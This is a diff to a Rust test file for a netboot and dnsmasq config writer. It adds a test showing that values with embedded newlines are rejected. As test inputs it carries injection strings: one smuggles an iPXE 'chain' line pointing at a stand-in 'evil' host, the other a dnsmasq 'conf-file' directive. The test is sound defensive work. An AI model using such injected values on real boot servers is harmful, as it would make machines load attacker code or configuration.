@@ -130,3 +130,16 @@ fn dnsmasq_accepts_snippet() {
     assert!(out.status.success(), "dnsmasq --test failed: {text}");
     assert!(text.contains("syntax check OK"), "{text}");
 }
+
+#[test]
+fn append_and_tftp_root_cannot_add_lines() {
+    let (_d, c, mut opts) = setup();
+    opts.append = Some("ro\nchain http://evil/x".into());
+    let e = write_netboot(&c, &opts).unwrap_err().to_string();
+    assert!(e.contains("--append") && e.contains("'\\n'"), "{e}");
+    assert!(!opts.outdir.exists(), "nothing written");
+    opts.append = None;
+    opts.tftp_root = Some("/srv/tftp\nconf-file=/tmp/x".into());
+    let e = write_netboot(&c, &opts).unwrap_err().to_string();
+    assert!(e.contains("--tftp-root"), "{e}");
+}
